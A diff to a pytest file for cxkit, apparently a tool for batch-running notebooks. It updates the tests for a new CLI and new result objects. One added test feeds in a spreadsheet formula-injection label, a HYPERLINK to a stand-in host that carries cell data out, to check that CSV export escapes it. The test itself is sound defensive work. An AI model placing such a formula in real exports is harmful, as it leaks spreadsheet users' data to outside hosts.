@@ -7,6 +7,7 @@ p-value is a fixed function of ``segment`` and ``period``.
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import signal
@@ -20,7 +21,8 @@ import pandas as pd
 import pytest
 
 import cxkit.cache
-from cxkit.batch import clean_stale_runs, find_stale_runs, run_batch, run_batch_cli
+from cxkit.batch import RunFailure, clean_stale_runs, find_stale_runs, run_batch
+from cxkit.cli import main
 from cxkit.data import SupportData
 from cxkit.exceptions import ParameterError
 from cxkit.report import write_results
@@ -52,7 +54,7 @@ def test_unknown_grid_parameter_is_refused_before_any_run(tmp_path, capsys):
     # the command line says the same and exits with 2
     cfg_file = tmp_path / "rc.yaml"
     cfg_file.write_text(json.dumps(_config(root, grid={"colour": ["red"]})))
-    assert run_batch_cli(str(cfg_file)) == 2
+    assert main(["run", str(cfg_file)]) == 2
     assert "colour" in capsys.readouterr().err
     assert not root.exists()
 
@@ -80,17 +82,20 @@ def test_yaml_boolean_for_a_string_parameter_is_refused(tmp_path):
 def test_failed_run_is_isolated_and_reported(mixed_batch):
     res = mixed_batch
     assert res.status == "failed" and len(res.runs) == 4
-    ok = [r for r in res.runs if r["status"] == "ok"]
-    assert len(ok) == 3 and all(r["label_parameters"]["segment"] != "broken" for r in ok)
+    ok = [r for r in res.runs if r.status == "ok"]
+    assert len(ok) == 3 and all(r.label_parameters["segment"] != "broken" for r in ok)
     assert len(res.failed) == 1
-    err = res.failed[0]["error"]
-    assert err["ename"] == "ValueError" and "broken on purpose" in err["evalue"]
-    assert err["cell_index"] == 3  # markdown, parameters, injected parameters, then this
+    err = res.failed[0].error
+    assert isinstance(err, RunFailure) and err.ename == "ValueError"
+    assert "broken on purpose" in err.evalue
+    assert err.cell_index == 3  # markdown, parameters, injected parameters, then this
+    assert err.exec_count == 3 and res.failed[0].to_dict()["error"] == {
+        "ename": "ValueError", "evalue": err.evalue, "cell_index": 3, "exec_count": 3}
     summary = res.summary()
     assert "FAILED quick segment=broken period=Q: cell 3" in summary
     assert "ValueError: segment 'broken' is broken on purpose" in summary
     # the executed notebook is kept, with the error in it
-    nb = nbformat.read(res.run_dir / res.failed[0]["notebook_path"], as_version=4)
+    nb = nbformat.read(res.run_dir / res.failed[0].notebook_path, as_version=4)
     errors = [o for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", [])
               if o.get("output_type") == "error"]
     assert errors and errors[0]["ename"] == "ValueError"
@@ -101,9 +106,16 @@ def test_failed_run_is_isolated_and_reported(mixed_batch):
 
 def test_cli_exit_status_is_one_when_a_run_fails(tmp_path, capsys):
     cfg_file = tmp_path / "rc.yaml"
-    cfg_file.write_text(json.dumps(_config(tmp_path / "r", grid={"segment": ["broken"]})))
-    assert run_batch_cli(str(cfg_file)) == 1
+    label = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    cfg_file.write_text(json.dumps(_config(tmp_path / "r", grid={"segment": ["broken", label]})))
+    assert main(["run", str(cfg_file)]) == 1
     assert "FAILED quick segment=broken" in capsys.readouterr().err
+    # a label that a spreadsheet would run as a formula is escaped in results.csv;
+    # the negative estimate stays a number
+    with open(next((tmp_path / "r").glob("*/results.csv")), newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert len(rows) == 1 and rows[0]["segment"] == "'" + label
+    assert float(rows[0]["estimate"]) == -0.1 and rows[0]["conf_low"] == "-0.2"
 
 
 # -- outputs ---------------------------------------------------------------------------
@@ -118,9 +130,9 @@ def test_results_csv_bh_equals_direct_multipletests(mixed_batch):
     assert len(table) == 3 and table["p_value"].nunique() == 3
     p_raw = []
     for run in mixed_batch.runs:
-        if run["status"] == "ok":
-            rows = json.loads((mixed_batch.run_dir / run["results"]).read_text())["results"]
-            p_raw.append((run["run"], rows[0]["p_value"]))
+        if run.status == "ok":
+            rows = json.loads((mixed_batch.run_dir / run.results).read_text())["results"]
+            p_raw.append((run.run, rows[0]["p_value"]))
     expected = dict(zip([r for r, _ in p_raw],
                         multipletests([p for _, p in p_raw], method="fdr_bh")[1]))
     got = dict(zip(table["run"], table["p_value_bh"]))
@@ -128,16 +140,26 @@ def test_results_csv_bh_equals_direct_multipletests(mixed_batch):
     assert (table["p_value_bh"] >= table["p_value"]).all()
 
 
+def test_the_batch_stamps_notebook_and_every_parameter_into_results_json(mixed_batch):
+    # quick.ipynb calls write_results(rows, output_dir=output_dir): no parameters typed
+    run = next(r for r in mixed_batch.runs if r.label_parameters["segment"] == "SMB")
+    payload = json.loads((mixed_batch.run_dir / run.results).read_text())
+    assert payload["notebook"] == "quick"
+    assert payload["parameters"] == {"segment": "SMB", "period": "Q", "horizon": 1,
+                                     "alpha": 0.05}  # declared defaults included
+    assert payload["results"][0]["notebook"] == "quick"
+
+
 def test_html_has_no_code_cells(mixed_batch):
     from nbconvert import HTMLExporter
 
-    run = next(r for r in mixed_batch.runs if r["status"] == "ok")
-    page = (mixed_batch.run_dir / run["html"]).read_text()
+    run = next(r for r in mixed_batch.runs if r.status == "ok")
+    page = (mixed_batch.run_dir / run.html).read_text()
     assert "visible output" in page  # outputs are kept
     for token in ("crc32", "FIXTURE_CODE_TOKEN", "hl-ipython3", "class=\"jp-InputPrompt"):
         assert token not in page
     # the same notebook rendered with code does contain them: the check can fail
-    with_code, _ = HTMLExporter().from_filename(str(mixed_batch.run_dir / run["notebook_path"]))
+    with_code, _ = HTMLExporter().from_filename(str(mixed_batch.run_dir / run.notebook_path))
     assert "crc32" in with_code and "hl-ipython3" in with_code
 
 
@@ -168,8 +190,7 @@ def test_killed_batch_leaves_only_a_tmp_folder_and_latest_untouched(tmp_path):
     cfg_file = tmp_path / "slow.yaml"
     cfg_file.write_text(json.dumps(_config(root, "slow")))
     proc = subprocess.Popen(
-        [sys.executable, "-c", "import sys; from cxkit.batch import run_batch_cli; "
-         "sys.exit(run_batch_cli(sys.argv[1]))", str(cfg_file)],
+        [sys.executable, "-m", "cxkit.cli", "run", str(cfg_file)],
         start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     try:
         deadline = time.monotonic() + 30
